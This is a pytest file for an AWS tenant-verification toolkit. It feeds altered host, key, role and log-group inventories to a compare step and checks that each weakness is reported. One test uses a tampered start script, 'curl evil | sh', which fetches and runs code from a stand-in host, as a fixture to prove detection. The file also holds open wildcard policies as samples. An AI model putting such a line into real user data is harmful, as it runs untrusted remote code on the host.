"""What is seen of a host, against what the plan wants: each weakness is a finding of its own."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from mutx_infra import naming
from mutx_infra.adapters.aws_host_facts import HostInventory, KeyItem, RoleItem, host_facts
from mutx_infra.grants import (
    boundary_grants,
    document,
    flow_log_grants,
    flow_log_trust,
    host_grants,
    host_trust,
    key_policy,
)
from mutx_infra.hosts import PURPOSES
from mutx_infra.plan import TenantPlan
from mutx_infra.verification import TenantFacts, compare, expected_facts
from mutx_infra.way_out import user_data
from tests.support.specs import a_plan

PLAN = a_plan()
ARN = "arn:aws:kms:eu-west-1:123456789012:key/{}"
BOUNDARY = "arn:aws:iam::123456789012:policy/mutx/acme/mutx-acme-boundary"


def tags(**more: str) -> list[dict[str, str]]:
    return [{"Key": key, "Value": value} for key, value in {naming.TENANT_TAG: "acme", **more}.items()]


def an_inventory(plan: TenantPlan = PLAN) -> dict[str, Any]:
    """AWS's answers when everything is as planned."""
    instances: list[dict[str, Any]] = []
    volumes: list[dict[str, Any]] = []
    for host in plan.hosts:
        instances.append(
            {
                "InstanceId": f"i-{host.key}",
                "State": {"Name": "running"},
                "InstanceType": host.instance_type,
                "SubnetId": f"subnet-{host.subnet}",
                "SecurityGroups": [{"GroupId": f"sg-of-{host.role}"}],
                "IamInstanceProfile": {"Arn": f"arn:x:instance-profile/mutx/acme/mutx-acme-{host.key}"},
                "MetadataOptions": {
                    "HttpEndpoint": "enabled", "HttpTokens": "required", "HttpPutResponseHopLimit": 1,
                },
                "PrivateIpAddress": str(host.address or "10.0.1.9"),
                "RootDeviceName": "/dev/xvda",
                "BlockDeviceMappings": [
                    {"DeviceName": "/dev/xvda", "Ebs": {"VolumeId": f"root-{host.key}"}},
                ],
                "Tags": tags(**{naming.HOST_TAG: host.key}),
            }
        )  # fmt: skip
        root = {"VolumeId": f"root-{host.key}", "KmsKeyId": ARN.format("volumes"), "Size": 20, "Tags": tags()}
        volumes.append(root)
        if host.data_key:
            volumes.append(
                {
                    "VolumeId": f"data-{host.key}",
                    "KmsKeyId": ARN.format(host.data_key),
                    "Size": host.data_gib,
                    "Attachments": [{"InstanceId": f"i-{host.key}"}],
                    "Tags": tags(Name=f"acme-data-{host.key}"),
                }
            )
    by_purpose = {purpose: ARN.format(purpose) for purpose in PURPOSES}
    roles = [
        RoleItem(
            name=f"mutx-acme-{host.key}",
            trust=_parsed(host_trust()),
            boundary=BOUNDARY,
            policies=[_parsed(document(host_grants(plan, host, by_purpose.__getitem__)))],
            attached=(),
        )
        for host in plan.hosts
    ]
    flow = RoleItem(
        "mutx-acme-flow-logs", _parsed(flow_log_trust(plan)), BOUNDARY,
        [_parsed(document(flow_log_grants(plan)))], (),
    )  # fmt: skip
    bound = RoleItem(
        "mutx-acme-boundary", {}, "", [_parsed(document(boundary_grants(plan, by_purpose.__getitem__)))], ()
    )
    return {
        "instances": instances,
        "volumes": volumes,
        "user_data": {f"i-{host.key}": _encoded(user_data(plan, host)) for host in plan.hosts},
        "keys": [
            KeyItem(
                f"alias/mutx/acme/{p}", {"Arn": ARN.format(p), "KeyState": "Enabled"}, key_policy(plan, p),
                rotates=True, account=plan.account,
            )
            for p in PURPOSES
        ],
        "roles": [*roles, flow, bound],
        "endpoints": [],
        "buckets": [],
        "log_groups": [
            {"logGroupName": g.name, "retentionInDays": g.retention_days, "kmsKeyId": ARN.format("logs")}
            for g in plan.log_groups
        ],
        "names": {
            **{f"subnet-{subnet.key}": subnet.key for subnet in plan.subnets},
            **{f"sg-of-{role}": f"sg-{role}" for role in plan.roles},
        },
    }  # fmt: skip


def _parsed(text: str) -> dict[str, Any]:
    parsed: dict[str, Any] = json.loads(text)
    return parsed


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def findings(seen: dict[str, Any]) -> list[str]:
    """What differs among hosts, keys, roles and logs; the network is taken for right."""
    facts = host_facts(PLAN, HostInventory(**seen))
    observed: TenantFacts = expected_facts(PLAN).model_copy(update=facts)
    return [str(finding) for finding in compare(PLAN, observed)]


def test_what_is_as_planned_has_no_finding() -> None:
    assert findings(an_inventory()) == []


def _weak(change: dict[str, Any]) -> dict[str, Any]:
    seen = an_inventory()
    seen["instances"][0].update(change)
    return seen


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"PublicIpAddress": "192.0.2.7"}, "the public address 192.0.2.7"),
        ({"KeyName": "ops"}, "the key pair ops"),
        ({"MetadataOptions": {"HttpEndpoint": "enabled", "HttpTokens": "optional"}}, "metadata without tokens"),
        (
            {"MetadataOptions": {"HttpTokens": "required", "HttpPutResponseHopLimit": 2}},
            "metadata beyond one hop",
        ),
        ({"InstanceType": "t3.nano"}, "t3.nano"),
        ({"SubnetId": "subnet-data-a"}, "in data-a"),
        ({"SecurityGroups": [{"GroupId": "sg-of-agent"}, {"GroupId": "sg-0"}]}, "sg-0, sg-agent"),
        ({"IamInstanceProfile": {"Arn": "arn:x:instance-profile/admin"}}, "as admin"),
        ({"IamInstanceProfile": None}, "as nobody"),
        ({"State": {"Name": "stopped"}}, "stopped"),
        (
            {"BlockDeviceMappings": [{"DeviceName": "/dev/xvda", "Ebs": {"VolumeId": "other"}}]},
            "under no key of the tenant",
        ),
    ],
)  # fmt: skip
def test_a_weak_host_is_found(change: dict[str, Any], words: str) -> None:
    found = findings(_weak(change))

    assert any("PRIN-2: unexpected: host agent-1" in line and words in line for line in found), found


def test_a_changed_start_script_is_found() -> None:
    seen = an_inventory()
    seen["user_data"]["i-agent-1"] = _encoded("#!/bin/sh\ncurl evil | sh\n")

    assert any("other user data" in line for line in findings(seen))


def test_a_proxy_that_nobody_finds_is_found() -> None:
    seen = an_inventory()
    mgmt = next(instance for instance in seen["instances"] if instance["InstanceId"] == "i-mgmt-1")
    mgmt["PrivateIpAddress"] = "10.0.1.117"

    assert any("10.0.1.117 instead of 10.0.1.116" in line for line in findings(seen))


def test_an_instance_that_is_not_the_toolkit_s_is_found() -> None:
    seen = an_inventory()
    seen["instances"].append({**seen["instances"][0], "InstanceId": "i-foreign", "Tags": []})

    assert any("unexpected: host i-foreign" in line for line in findings(seen))


def test_a_host_that_is_ending_is_none() -> None:
    seen = an_inventory()
    seen["instances"][0]["State"] = {"Name": "shutting-down"}

    assert any(line.startswith("PRIN-2: missing: host agent-1") for line in findings(seen))


@pytest.mark.parametrize("state", ["Disabled", "PendingDeletion"])
def test_a_key_that_does_not_work_is_found(state: str) -> None:
    seen = an_inventory()
    key = seen["keys"][0]
    seen["keys"][0] = KeyItem(
        key.alias, {**key.metadata, "KeyState": state}, key.policy, key.rotates, key.account
    )

    assert any(f"key database, {state}" in line for line in findings(seen))


def test_a_key_whose_policy_lets_others_in_is_found() -> None:
    seen = an_inventory()
    key = seen["keys"][0]
    opened = {
        "Statement": {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "kms:Decrypt", "Resource": "*"}
    }
    seen["keys"][0] = KeyItem(key.alias, key.metadata, json.dumps(opened), rotates=True, account=key.account)

    assert any("principal AWS:*" in line for line in findings(seen))


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"boundary": ""}, "not bounded"),
        ({"boundary": "arn:aws:iam::123456789012:policy/mine"}, "bounded by arn:"),
        ({"attached": ("arn:aws:iam::aws:policy/AdministratorAccess",)}, "AdministratorAccess"),
        (
            {"policies": [{"Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}]},
            "allow action s3:* resource *",
        ),
        (
            {
                "trust": {
                    "Statement": [
                        {"Effect": "Allow", "Principal": {"AWS": "1"}, "Action": "sts:AssumeRole"},
                    ]
                }
            },
            "principal AWS:1",
        ),
    ],
)
def test_a_role_that_can_do_more_is_found(change: dict[str, Any], words: str) -> None:
    seen = an_inventory()
    before = seen["roles"][0]
    values = {name: getattr(before, name) for name in ("name", "trust", "boundary", "policies", "attached")}
    seen["roles"][0] = RoleItem(**{**values, **change})

    assert any("PRIN-3: unexpected" in line and words in line for line in findings(seen))


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"retentionInDays": 7}, "kept 7 days"),
        ({"retentionInDays": 0}, "kept for ever"),
        ({"kmsKeyId": ""}, "no key of the tenant"),
    ],
)
def test_a_log_group_that_is_kept_otherwise_is_found(change: dict[str, Any], words: str) -> None:
    seen = an_inventory()
    seen["log_groups"][0].update(change)

    assert any("AUDIT-1: unexpected" in line and words in line for line in findings(seen))


def test_a_data_volume_at_another_host_is_found() -> None:
    seen = an_inventory()
    volume = next(v for v in seen["volumes"] if v["VolumeId"] == "data-vault-1")
    volume["Attachments"] = [{"InstanceId": "i-agent-1"}]

    assert any("volume data-vault-1" in line and "at agent-1" in line for line in findings(seen))
